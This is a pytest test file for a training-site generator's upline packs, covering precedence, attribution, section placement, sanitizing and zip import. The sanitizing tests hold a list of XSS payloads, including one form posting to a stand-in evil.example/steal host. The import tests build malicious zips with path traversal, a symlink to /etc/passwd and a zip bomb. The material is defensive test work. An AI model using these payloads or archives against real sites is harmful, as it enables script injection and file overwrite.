"""Upline packs: precedence, sections, attribution, sanitizing, and the pack/upline commands."""

from __future__ import annotations

import os
import re
import stat
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from trainkit.build import check
from trainkit.packs import add_entry, remove_entry
from trainkit.model import Upline

REPO = Path(__file__).resolve().parent.parent
MARIA = "From Maria Lopez, Diamond Director"


def uplines_yaml(*entries: tuple[str, str, bool]) -> str:
    """trainkit.yaml with the given (name, folder, trusted) uplines, nearest first."""
    text = 'title: Test Team\nversion: "1.0"\nuplines:\n'
    for name, folder, trusted in entries:
        role = "\n    role: Diamond Director" if name == "Maria Lopez" else ""
        text += (f"  - name: {name}{role}\n    path: uplines/{folder}\n"
                 f"    trusted: {'true' if trusted else 'false'}\n")
    return text


MARIA_ONLY = uplines_yaml(("Maria Lopez", "maria", False))


def lesson(title: str, body: str = "Text.\n", extra: str = "") -> str:
    return f"---\ntitle: {title}\n{extra}---\n{body}"


def link(title: str) -> str:
    return f"---\ntitle: {title}\nurl: https://example.com/{title.lower().replace(' ', '-')}\n---\nWhy.\n"


def problems_of(source: Path) -> list[str]:
    _, _, problems, _ = check(source)
    return [p.format() for p in problems if not site_wide(p.format())]


def site_wide(line: str) -> bool:
    """A warning about the site's publishing settings, not its content (no base_url)."""
    return line.startswith("trainkit.yaml:") and "base_url" in line


def warnings_in(output: str) -> list[str]:
    return [line for line in output.splitlines() if ": warning: " in line and not site_wide(line)]


class Elements(HTMLParser):
    """Every element (tag, attributes with values unescaped) and the text inside elements
    with a given class, for checking output by parsing it rather than searching strings."""

    def __init__(self, inside_class: str | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.inside_class = inside_class
        self.depth = 0  # > 0 while inside the element with inside_class
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.texts: dict[str, list[str]] = {}
        self._open: list[tuple[str, str]] = []  # (tag, class) of elements open now

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        classes = (dict(attrs).get("class") or "").split()
        if self.depth:
            self.depth += tag not in VOID
        elif self.inside_class in classes:
            self.depth = 1
            return
        if self.depth or self.inside_class is None:
            self.elements.append((tag, attrs))
        if tag not in VOID:
            self._open.append((tag, " ".join(classes)))

    def handle_endtag(self, tag: str) -> None:
        if self.depth and tag not in VOID:
            self.depth -= 1
        for i in range(len(self._open) - 1, -1, -1):
            if self._open[i][0] == tag:
                del self._open[i:]
                break

    def handle_data(self, data: str) -> None:
        for _, classes in self._open:
            for cls in classes.split():
                self.texts.setdefault(cls, []).append(data)

    def text_of(self, cls: str) -> str:
        return " ".join(" ".join(self.texts.get(cls, [])).split())


VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta",
        "source", "track", "wbr"}


def parse(file: Path, inside_class: str | None = None) -> Elements:
    parser = Elements(inside_class)
    parser.feed(file.read_text(encoding="utf-8"))
    parser.close()
    return parser


# --- precedence ------------------------------------------------------------------------

def pack_files(folder: str, who: str) -> dict[str, str | None]:
    """A pack that defines the same course, lesson, link and path as MINIMAL plus extras."""
    p = f"uplines/{folder}/"
    return {
        p + "courses/basics/course.yaml": f"title: {who} Basics\nlessons: [welcome]\n",
        p + "courses/basics/welcome.md": lesson(f"{who} Welcome"),
        p + "courses/shared/course.yaml": f"title: {who} Shared\nlessons: [intro]\n",
        p + "courses/shared/intro.md": lesson(f"{who} Intro"),
        p + "links/reading.md": link(f"{who} Reading"),
        p + "paths/start.yaml": f"title: {who} Start\nsteps:\n  - course: shared\n",
    }


@pytest.fixture
def two_packs(make_site):
    return make_site({
        "trainkit.yaml": uplines_yaml(("Maria Lopez", "maria", False), ("Bob Chen", "bob", False)),
        "links/reading.md": link("Site Reading"),
        "paths/start.yaml": "title: Site Start\nsteps:\n  - course: basics\n",
        **pack_files("maria", "Maria"), **pack_files("bob", "Bob"),
    })


@pytest.mark.parametrize("loser, winner", [
    ("uplines/maria/courses/basics/course.yaml", "courses/basics/course.yaml"),
    ("uplines/maria/courses/basics/welcome.md", "courses/basics/welcome.md"),
    ("uplines/maria/links/reading.md", "links/reading.md"),
    ("uplines/maria/paths/start.yaml", "paths/start.yaml"),
    ("uplines/bob/courses/shared/course.yaml", "uplines/maria/courses/shared/course.yaml"),
    ("uplines/bob/courses/shared/intro.md", "uplines/maria/courses/shared/intro.md"),
    ("uplines/bob/links/reading.md", "links/reading.md"),
    ("uplines/bob/paths/start.yaml", "paths/start.yaml"),
])
def test_override_warns_naming_both_files(two_packs: Path, loser: str, winner: str) -> None:
    found = [p for p in problems_of(two_packs) if p.startswith(loser + ":")]
    assert len(found) == 1 and ": warning: " in found[0] and winner in found[0]


def test_site_beats_uplines_and_the_earlier_upline_beats_the_later(two_packs: Path, cli) -> None:
    assert cli("build", "--source", two_packs).exit_code == 0
    site = two_packs / "site"
    basics = (site / "courses/basics/index.html").read_text()
    assert "<h1>Basics</h1>" in basics and "Maria" not in basics and "Bob" not in basics
    assert "Welcome" in (site / "courses/basics/welcome/index.html").read_text()
    assert "Maria Welcome" not in (site / "courses/basics/welcome/index.html").read_text()
    shared = (site / "courses/shared/index.html").read_text()
    assert "Maria Shared" in shared and "Bob Shared" not in shared
    assert MARIA in parse(site / "courses/shared/index.html").text_of("from")
    library = (site / "links/index.html").read_text()
    assert "Site Reading" in library and "Maria Reading" not in library
    assert "Site Start" in (site / "paths/start/index.html").read_text()


# --- attribution and sections ----------------------------------------------------------

def test_pack_content_is_attributed_everywhere(make_site, cli) -> None:
    src = make_site({
        "trainkit.yaml": MARIA_ONLY,
        "uplines/maria/courses/calls/course.yaml": "title: Calls\nlessons: [one]\n",
        "uplines/maria/courses/calls/one.md": lesson("One", extra="links: [tips]\n"),
        "uplines/maria/courses/calls/links/tips.md": link("Call tips"),
        "uplines/maria/links/scripts.md": link("Scripts"),
    })
    assert cli("build", "--source", src).exit_code == 0
    site = src / "site"
    for page in ("index.html", "courses/calls/index.html", "courses/calls/one/index.html",
                 "links/index.html"):
        assert MARIA in parse(site / page).text_of("from"), page
    library = parse(site / "links/index.html")
    assert library.text_of("from").count(MARIA) == 2  # each of her two links
    assert "Maria" not in parse(site / "courses/basics/index.html").text_of("from")


def test_sections_render_as_attributed_blocks_in_uplines_order(make_site, cli) -> None:
    def section(title: str, placement: str) -> str:
        return f"---\nfor: basics/welcome\ntitle: {title}\nplacement: {placement}\n---\nFrom {title}.\n"

    src = make_site({
        "trainkit.yaml": uplines_yaml(("Maria Lopez", "maria", False), ("Bob Chen", "bob", False)),
        "uplines/bob/sections/b.md": section("Bob end", "end"),
        "uplines/maria/sections/a.md": section("Maria end", "end"),
        "uplines/maria/sections/c.md": section("Maria top", "start"),
        "uplines/maria/sections/d.md": section("Maria after", "after:first-steps"),
    })
    assert cli("build", "--source", src).exit_code == 0
    page = src / "site/courses/basics/welcome/index.html"
    body = parse(page, "lesson-body")
    titles = [t for t in parse(page).texts.get("section-title", [])]
    assert titles == ["Maria top", "Maria after", "Maria end", "Bob end"]
    assert [a.strip() for a in parse(page).texts["attribution"]] == [MARIA] * 3 + ["From Bob Chen"]
    tags = [tag for tag, _ in body.elements]
    assert tags.count("aside") == 4
    html = page.read_text()
    assert html.index("Say hello") < html.index("Maria after") < html.index("Maria end")
    assert "&lt;h2" not in html  # the body around an after: section is not escaped
    # A section after a heading ends that heading's part of the lesson: its title is one
    # level below, so the page's outline stays whole (h1 lesson, h2 "First steps", h3).
    assert re.findall(r'<(h\d) class="section-title">([^<]+)<', html) == [
        ("h2", "Maria top"), ("h3", "Maria after"), ("h2", "Maria end"), ("h2", "Bob end")]


@pytest.mark.parametrize("front, message", [
    ("for: basics/missing", "there is no such lesson"),
    ("for: nope/welcome", "there is no such lesson"),
    ("for: basics/welcome\nplacement: after:no-such-heading",
     "lesson 'basics/welcome' (courses/basics/welcome.md) has no heading '#no-such-heading'"),
])
def test_section_with_a_bad_target_is_an_error_at_the_section_file(make_site, front: str,
                                                                   message: str) -> None:
    src = make_site({"trainkit.yaml": MARIA_ONLY,
                     "uplines/maria/sections/tip.md": f"---\n{front}\n---\nHi.\n"})
    found = [p for p in problems_of(src) if message in p]
    assert found and all(p.startswith("uplines/maria/sections/tip.md:2: error:") for p in found)


def test_pack_links_resolve_inside_the_pack_and_errors_name_the_pack_file(make_site, cli) -> None:
    src = make_site({
        "trainkit.yaml": MARIA_ONLY,
        "uplines/maria/courses/calls/course.yaml": "title: Calls\nlessons: [one, two]\n",
        "uplines/maria/courses/calls/one.md": lesson("One", "See [two](two.md#part).\n"),
        "uplines/maria/courses/calls/two.md": lesson("Two", "## Part\n\n![logo](../../static/logo.png)\n"),
        "uplines/maria/static/logo.png": b"\x89PNG",
    })
    assert cli("build", "--source", src).exit_code == 0
    one = parse(src / "site/courses/calls/one/index.html", "lesson-body")
    assert ("a", [("href", "../two/#part")]) in [(t, [a for a in attrs if a[0] == "href"])
                                                  for t, attrs in one.elements]
    two = parse(src / "site/courses/calls/two/index.html", "lesson-body")
    src_attr = next(dict(a)["src"] for t, a in two.elements if t == "img")
    assert (src / "site/courses/calls/two" / str(src_attr)).resolve().read_bytes() == b"\x89PNG"

    (src / "uplines/maria/courses/calls/two.md").write_text(
        lesson("Two", "Intro.\n\nSee [three](three.md) and [one](one.md#nowhere).\n"))
    found = problems_of(src)
    assert any(p.startswith("uplines/maria/courses/calls/two.md:6: error: link to 'three.md'")
               for p in found), found
    assert any(p.startswith("uplines/maria/courses/calls/two.md:6: error: link to 'one.md#nowhere'")
               for p in found), found


def test_symlink_in_a_pack_is_refused(make_site, tmp_path: Path) -> None:
    src = make_site({"trainkit.yaml": MARIA_ONLY,
                     "uplines/maria/courses/calls/course.yaml": "title: Calls\nlessons: [one]\n"})
    outside = tmp_path / "secret.md"
    outside.write_text(lesson("Secret"))
    os.symlink(outside, src / "uplines/maria/courses/calls/one.md")
    found = problems_of(src)
    assert any(p.startswith("uplines/maria/courses/calls/one.md:1: error: symbolic links")
               for p in found), found


# --- sanitizing ------------------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<a href="javascript:alert(1)">plain js</a>',
    '<a href="jav&#x61;script:alert(1)">hex entity</a>',
    '<a href="&#106;avascript:alert(1)">decimal entity</a>',
    '<a href="  JaVaScRiPt:alert(1)">spaces and case</a>',
    '<a href="java&#x09;script:alert(1)">tab inside</a>',
    '<a href="vbscript:msgbox(1)">vbscript</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data link</a>',
    '<iframe src="https://evil.example/"></iframe>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<form action="https://evil.example/steal"><input name="pw"><button formaction="javascript:alert(1)">Go</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    "<style>body { display: none }</style>",
    '<div onclick="alert(1)" onmouseover="alert(2)">hover me</div>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "[markdown js](javascript:alert(1))",
    "[markdown data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![markdown image](data:image/png;base64,AAAA)",
    '<a href="https://example.com/" onclick="alert(1)">https with handler</a>',
]
FORBIDDEN_TAGS = {"script", "iframe", "form", "svg", "math", "object", "embed", "style",
                  "button", "textarea", "frame", "frameset", "base", "meta", "link"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster",
                  "background", "srcset"}


def assert_nothing_runs(elements: Elements) -> None:
    assert elements.elements, "nothing was parsed: the check would pass vacuously"
    for tag, attrs in elements.elements:
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            if name in URL_ATTRIBUTES and value:
                squeezed = "".join(ch for ch in value if ch > " ").lower()
                assert not squeezed.startswith(("javascript:", "data:", "vbscript:")), (tag, value)


def xss_site(make_site, trusted: bool = False, safe: bool = False):
    body = "## Payloads\n\n" + "\n\n".join(XSS) + "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    config = uplines_yaml(("Maria Lopez", "maria", trusted)) + ("safe: true\n" if safe else "")
    return make_site({
        "trainkit.yaml": config,
        "courses/basics/second.md": lesson("Second", body),
        "uplines/maria/courses/calls/course.yaml": "title: Calls\nlessons: [evil]\n",
        "uplines/maria/courses/calls/evil.md": lesson("Evil", body),
        "uplines/maria/sections/evil.md": "---\nfor: basics/welcome\n---\n" + body,
        "uplines/maria/links/evil.md": link("Evil").replace("Why.\n", body),
    })


def test_no_xss_payload_survives_an_untrusted_pack(make_site, cli) -> None:
    src = xss_site(make_site)
    result = cli("build", "--source", src)
    assert result.exit_code == 0, result.output
    site = src / "site"
    lesson_body = parse(site / "courses/calls/evil/index.html", "lesson-body")
    assert_nothing_runs(lesson_body)
    assert_nothing_runs(parse(site / "courses/basics/welcome/index.html", "lesson-body"))
    assert_nothing_runs(parse(site / "links/index.html", "note"))
    # What Markdown makes is kept: the heading, the table, the harmless https link.
    tags = {tag for tag, _ in lesson_body.elements}
    assert {"h2", "table", "td", "a", "p"} <= tags
    hrefs = [dict(a).get("href") for t, a in lesson_body.elements if t == "a"]
    assert "https://example.com/" in hrefs
    # The site's own lesson (no safe: true) keeps its raw HTML.
    own = parse(site / "courses/basics/second/index.html", "lesson-body")
    assert "script" in {tag for tag, _ in own.elements}


def test_entity_encoded_markdown_link_is_a_broken_link_not_a_script(make_site, cli) -> None:
    # Markdown does not decode entities in a link's URL, so this is a relative file name
    # ("jav&" with a "#x61;..." fragment) that does not exist: the build refuses it.
    src = make_site({"trainkit.yaml": MARIA_ONLY,
                     "uplines/maria/sections/evil.md":
                         "---\nfor: basics/welcome\n---\n[x](jav&#x61;script:alert(1))\n"})
    result = cli("build", "--source", src)
    assert result.exit_code == 1
    assert "uplines/maria/sections/evil.md:4: error: link to 'jav&#x61;script:alert(1)'" in result.output


def test_trusted_pack_keeps_raw_html(make_site, cli) -> None:
    src = xss_site(make_site, trusted=True)
    assert cli("build", "--source", src).exit_code == 0
    body = parse(src / "site/courses/calls/evil/index.html", "lesson-body")
    tags = {tag for tag, _ in body.elements}
    assert {"script", "form", "svg"} <= tags
    # ... except what would load from another host (the iframe): a link to it instead.
    assert "iframe" not in tags
    assert ("a", [("class", "offsite"), ("href", "https://evil.example/"),
                  ("rel", "noopener noreferrer")]) in body.elements
    assert any(name == "style" for _, attrs in body.elements for name, _ in attrs)


def test_safe_true_sanitizes_the_sites_own_html(make_site, cli) -> None:
    src = xss_site(make_site, safe=True)
    assert cli("build", "--source", src).exit_code == 0
    assert_nothing_runs(parse(src / "site/courses/basics/second/index.html", "lesson-body"))


# --- trainkit pack ---------------------------------------------------------------------

def zip_names(file: Path) -> list[str]:
    with zipfile.ZipFile(file) as archive:
        return archive.namelist()


@pytest.fixture
def leader(make_site):
    """A site with its own content, an upline pack, and things a pack must never hold."""
    return make_site({
        "trainkit.yaml": MARIA_ONLY,
        "courses/basics/second.md": lesson("Second", extra="updated: 2026-03-04\n"),
        "links/handy.md": link("Handy").replace("---\nWhy", "added: 2026-02-01\n---\nWhy"),
        "paths/start.yaml": "title: Start\nsteps:\n  - course: basics\n",
        "sections/tip.md": "---\nfor: basics/welcome\n---\nA tip from the team.\n",
        "static/team.png": b"\x89PNG",
        "uplines/maria/pack.yaml": 'name: maria\ntitle: Maria\nversion: "3"\ncreated: 2026-01-01\n',
        "uplines/maria/courses/calls/course.yaml": "title: Calls\nlessons: [one]\n",
        "uplines/maria/courses/calls/one.md": lesson("One"),
        "site/index.html": "old build",
        ".trainkit-cache/x": "cache",
        "versions/0.9/trainkit.yaml": 'title: Old\nversion: "0.9"\n',
        "themes/default/templates/lesson.html": "{{ lesson.title }}",
    })


def test_pack_holds_own_content_only_and_is_byte_identical(leader: Path, cli, tmp_path: Path) -> None:
    first, second = tmp_path / "a.zip", tmp_path / "b.zip"
    assert cli("pack", first, "--source", leader).exit_code == 0
    os.utime(leader / "courses/basics/welcome.md", (1, 1))  # mtimes must not matter
    assert cli("pack", second, "--source", leader).exit_code == 0
    assert first.read_bytes() == second.read_bytes()
    names = zip_names(first)
    assert names == sorted(names)
    assert set(names) == {
        "pack.yaml", "courses/basics/course.yaml", "courses/basics/welcome.md",
        "courses/basics/second.md", "links/handy.md", "paths/start.yaml", "sections/tip.md",
        "static/team.png",
    }
    with zipfile.ZipFile(first) as archive:
        manifest = archive.read("pack.yaml").decode()
        infos = archive.infolist()
    assert "title: Test Team" in manifest and 'version: "1.0"' in manifest
    assert "created: 2026-03-04" in manifest  # the newest updated/added date, not today
    assert {i.date_time for i in infos} == {(2026, 3, 4, 0, 0, 0)}
    assert {i.external_attr >> 16 for i in infos} == {stat.S_IFREG | 0o644}


def test_pack_include_uplines_and_source_date_epoch(leader: Path, cli, tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    out = tmp_path / "all.zip"
    assert cli("pack", out, "--source", leader, "--include-uplines").exit_code == 0
    names = zip_names(out)
    assert {"uplines/maria/pack.yaml", "uplines/maria/courses/calls/one.md"} <= set(names)
    with zipfile.ZipFile(out) as archive:
        manifest = archive.read("pack.yaml").decode()
    assert "created: 2023-11-14" in manifest
    assert "path: uplines/maria" in manifest and "name: Maria Lopez" in manifest


def test_pack_refuses_a_site_with_errors(make_site, cli, tmp_path: Path) -> None:
    src = make_site({"courses/basics/second.md": lesson("Second", extra="prerequisites: [no/such]\n")})
    result = cli("pack", tmp_path / "x.zip", "--source", src)
    assert result.exit_code == 1
    assert "courses/basics/second.md:3: error:" in result.output
    assert not (tmp_path / "x.zip").exists()


def test_pack_refuses_references_to_what_it_leaves_out(make_site, cli, tmp_path: Path) -> None:
    """Your site may link to your upline's lessons; a pack without their pack must not,
    or the leaders below you get links and steps that lead nowhere."""
    src = make_site({
        "trainkit.yaml": MARIA_ONLY,
        "uplines/maria/pack.yaml": 'name: maria\ntitle: Maria\nversion: "3"\n',
        "uplines/maria/courses/calls/course.yaml": "title: Calls\nlessons: [one]\n",
        "uplines/maria/courses/calls/one.md": lesson("One"),
        "uplines/maria/links/script.md": link("Script"),
        "courses/basics/second.md": lesson(
            "Second", "Intro.\n\nAfter [the first call](../../uplines/maria/courses/calls/one.md),\n"
                      "see [welcome](welcome.md).\n",
            extra="prerequisites: [calls/one]\nlinks: [script]\n"),
        "links/handy.md": link("Handy").replace("Why", "Read [one](../uplines/maria/courses/calls/one.md). Why"),
        "paths/start.yaml": "title: Start\nsteps:\n  - course: basics\n  - lesson: calls/one\n",
        "sections/tip.md": "---\nfor: calls/one\n---\nA tip from the team.\n",
    })
    assert cli("build", "--source", src).exit_code == 0  # fine in your own site
    result = cli("pack", tmp_path / "team.zip", "--source", src)
    assert result.exit_code == 1 and not (tmp_path / "team.zip").exists()
    errors = sorted(line.split(": error: ")[0] + ": " + line.split(": error: ")[1].split(",")[0]
                    for line in result.output.splitlines() if ": error: " in line)
    one = "uplines/maria/courses/calls/one.md"
    assert errors == [
        f"courses/basics/second.md:3: its prerequisite is {one}",
        "courses/basics/second.md:4: its reading is uplines/maria/links/script.md",
        f"courses/basics/second.md:8: this links to {one}",
        f"links/handy.md:5: this links to {one}",
        f"paths/start.yaml:4: this step is {one}",
        f"sections/tip.md:2: it is for {one}",
    ]
    assert "in Maria Lopez's pack and left out of yours" in result.output
    assert "pass --include-uplines" in result.output

    # Passed on together, the downline's site builds with every reference in place.
    whole = tmp_path / "whole.zip"
    assert cli("pack", whole, "--source", src, "--include-uplines").exit_code == 0
    down = make_downline(tmp_path / "down")
    added = cli("upline", "add", whole, "--name", "Jo", "--source", down)
    assert added.exit_code == 0, added.output
    assert cli("build", "--source", down).exit_code == 0
    second = (down / "site/courses/basics/second/index.html").read_text()
    assert 'href="../../calls/one/"' in second


def make_downline(root: Path) -> Path:
    root.mkdir(parents=True)
    (root / "trainkit.yaml").write_text('title: Downline\nversion: "1"\n')
    return root


# --- trainkit upline add / list / remove ----------------------------------------------

def make_zip(path: Path, entries: dict[str, bytes], modes: dict[str, int] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (modes or {}).get(name, stat.S_IFREG | 0o644) << 16
            archive.writestr(info, data)
    return path


GOOD = {"pack.yaml": b'name: x\nversion: "2"\n',
        "courses/calls/course.yaml": b"title: Calls\nlessons: [one]\n",
        "courses/calls/one.md": lesson("One").encode()}


@pytest.mark.parametrize("entries, modes, why", [
    ({**GOOD, "../evil.md": b"x"}, None, "points outside the pack"),
    ({**GOOD, "courses/../../evil.md": b"x"}, None, "points outside the pack"),
    ({**GOOD, "/tmp/evil.md": b"x"}, None, "absolute path"),
    ({**GOOD, "C:/evil.md": b"x"}, None, "absolute path"),
    ({**GOOD, "courses\\..\\..\\evil.md": b"x"}, None, "backslash"),
    ({**GOOD, "courses/link.md": b"/etc/passwd"}, {"courses/link.md": stat.S_IFLNK | 0o777},
     "symbolic link"),
    ({**GOOD, "static/zeros.bin": bytes(8 * 1024 * 1024)}, None, "zip bomb"),
    ({"courses/calls/course.yaml": b"title: x\n"}, None, "no pack.yaml"),
])
def test_upline_add_refuses_unsafe_packs(make_site, cli, tmp_path: Path, entries: dict[str, bytes],
                                         modes: dict[str, int] | None, why: str) -> None:
    src = make_site()
    before = (src / "trainkit.yaml").read_text()
    bad = make_zip(tmp_path / "bad.zip", entries, modes)
    result = cli("upline", "add", bad, "--name", "Eve", "--source", src)
    assert result.exit_code == 2
    assert why in result.output
    assert not (src / "uplines/eve").exists()
    assert not (tmp_path / "evil.md").exists() and not (src / "evil.md").exists()
    assert (src / "trainkit.yaml").read_text() == before
    assert [p.name for p in (src / "uplines").iterdir()] == [] if (src / "uplines").exists() else True


def test_upline_add_refuses_a_file_that_is_not_a_zip(make_site, cli, tmp_path: Path) -> None:
    bad = tmp_path / "notes.zip"
    bad.write_text("not a zip")
    result = cli("upline", "add", bad, "--name", "Eve", "--source", make_site())
    assert result.exit_code == 2 and "not a readable zip" in result.output


COMMENTED = """\
# Our team's site.
title: Test Team   # shown on every page
version: "1.0"
"""


def test_upline_add_list_remove_keep_comments(make_site, cli, tmp_path: Path) -> None:
    src = make_site({"trainkit.yaml": COMMENTED})
    good = make_zip(tmp_path / "maria.zip", GOOD)
    result = cli("upline", "add", good, "--name", "Maria Lopez", "--role", "Diamond Director",
                 "--source", src)
    assert result.exit_code == 0, result.output
    text = (src / "trainkit.yaml").read_text()
    assert text.startswith(COMMENTED)
    assert "  - name: Maria Lopez\n    role: Diamond Director\n    path: uplines/maria-lopez\n" \
           "    trusted: false\n" in text
    assert (src / "uplines/maria-lopez/courses/calls/one.md").is_file()

    again = cli("upline", "add", good, "--name", "Maria Lopez", "--source", src)
    assert again.exit_code == 2 and "--force" in again.output
    assert cli("upline", "add", good, "--name", "Maria Lopez", "--force",
               "--source", src).exit_code == 0
    assert (src / "trainkit.yaml").read_text() == text  # replaced the pack, not the entry

    bob = cli("upline", "add", good, "--name", "Bob Chen", "--source", src)
    assert bob.exit_code == 0
    listing = cli("upline", "list", "--source", src)
    lines = listing.output.strip().splitlines()
    assert lines[0].split("\t") == ["Maria Lopez", "Diamond Director", "uplines/maria-lopez",
                                    "untrusted", "version 2"]
    assert lines[1].startswith("Bob Chen\t-\tuplines/bob-chen\t")

    assert cli("upline", "remove", "Maria Lopez", "--source", src).exit_code == 0
    assert not (src / "uplines/maria-lopez").exists()
    text = (src / "trainkit.yaml").read_text()
    assert text.startswith(COMMENTED) and "Maria" not in text and "Bob Chen" in text
    assert cli("upline", "remove", "Bob Chen", "--source", src).exit_code == 0
    text = (src / "trainkit.yaml").read_text()
    assert text.startswith(COMMENTED) and "uplines: []" in text
    assert problems_of(src) == []
    assert cli("upline", "remove", "Nobody", "--source", src).exit_code == 2


def test_upline_remove_keeps_a_folder_that_is_not_an_unpacked_pack(make_site, cli) -> None:
    src = make_site({"trainkit.yaml": MARIA_ONLY,
                     "uplines/maria/courses/calls/course.yaml": "title: Calls\nlessons: []\n"})
    result = cli("upline", "remove", "Maria Lopez", "--source", src)
    assert result.exit_code == 0 and "was kept" in result.output
    assert (src / "uplines/maria/courses/calls/course.yaml").is_file()


@pytest.mark.parametrize("config", [
    'title: T\nversion: "1"\n',
    'title: T\nversion: "1"',
    'title: T\nversion: "1"\nuplines: []   # none yet\n',
    'title: T\nversion: "1"\nuplines:\n',
    'title: T\nversion: "1"\nuplines:\n- name: A\n  path: uplines/a\n# the end\nlanguage: en\n',
    'title: T\nversion: "1"\nuplines:\n    # nearest first\n    - name: A\n      path: uplines/a\n\nlanguage: en\n',
])
def test_entry_edits_read_back_and_keep_comments(config: str) -> None:
    import yaml

    added = add_entry(config, Upline("Zoë: \"Z\" #1", "Gold: Leader", "uplines/zoe", False))
    data = yaml.safe_load(added)
    assert data["uplines"][-1] == {"name": 'Zoë: "Z" #1', "role": "Gold: Leader",
                                   "path": "uplines/zoe", "trusted": False}
    assert data["title"] == "T" and data.get("language", "en") == "en"
    for line in config.splitlines():
        if "#" in line and "uplines:" not in line:
            assert line in added.splitlines()
    removed, entry = remove_entry(added, "Zoë: \"Z\" #1")
    assert entry["path"] == "uplines/zoe"
    assert yaml.safe_load(removed)["uplines"] in ([], [{"name": "A", "path": "uplines/a"}])


# --- the round trip ---------------------------------------------------------------------

def test_round_trip_pack_the_sample_site_into_a_new_site(cli, tmp_path: Path) -> None:
    zip_file = tmp_path / "team-diamond.zip"
    result = cli("pack", zip_file, "--source", REPO)
    assert result.exit_code == 0, result.output
    assert not any(n.startswith(("site/", "uplines/", "versions/", "themes/", "trainkit/",
                                 "tests/")) for n in zip_names(zip_file))

    downline = tmp_path / "downline"
    assert cli("new", downline).exit_code == 0
    result = cli("upline", "add", zip_file, "--name", "Sam Rivera", "--role", "Gold Leader",
                 "--source", downline)
    assert result.exit_code == 0, result.output
    result = cli("build", "--source", downline)
    assert result.exit_code == 0, result.output
    assert warnings_in(result.output) == []

    site = downline / "site"
    home = parse(site / "index.html")
    cards = home.text_of("course-card")
    for course in sorted((REPO / "courses").iterdir()):
        title = next(line.split(":", 1)[1].strip() for line in
                     (course / "course.yaml").read_text().splitlines() if line.startswith("title:"))
        assert title in cards
        assert (site / "courses" / course.name / "index.html").is_file()
        page = parse(site / "courses" / course.name / "index.html")
        assert "From Sam Rivera, Gold Leader" in page.text_of("from")
    assert "From Sam Rivera, Gold Leader" in home.text_of("from")
    assert MARIA in home.text_of("from")  # the new site's own example upline still shows
    lesson_page = site / "courses/training-your-downline/train-with-your-upline/index.html"
    assert "From Sam Rivera, Gold Leader" in parse(lesson_page).text_of("from")
    if any((REPO / "links").glob("*.md")):
        assert "From Sam Rivera, Gold Leader" in parse(site / "links/index.html").text_of("from")


def test_sample_site_and_scaffold_build_clean(cli, tmp_path: Path) -> None:
    result = cli("build", "--source", REPO, "--out", tmp_path / "sample")
    assert result.exit_code == 0 and warnings_in(result.output) == [], result.output
    lesson_page = tmp_path / "sample/courses/training-your-downline/train-with-your-upline/index.html"
    assert MARIA in parse(lesson_page).text_of("attribution")
    assert MARIA in parse(tmp_path / "sample/courses/three-way-calls/index.html").text_of("from")

    new = tmp_path / "new"
    assert cli("new", new).exit_code == 0
    result = cli("build", "--source", new)
    assert result.exit_code == 0 and warnings_in(result.output) == [], result.output
    first_week = new / "site/courses/getting-started/first-week/index.html"
    assert MARIA in parse(first_week).text_of("attribution")
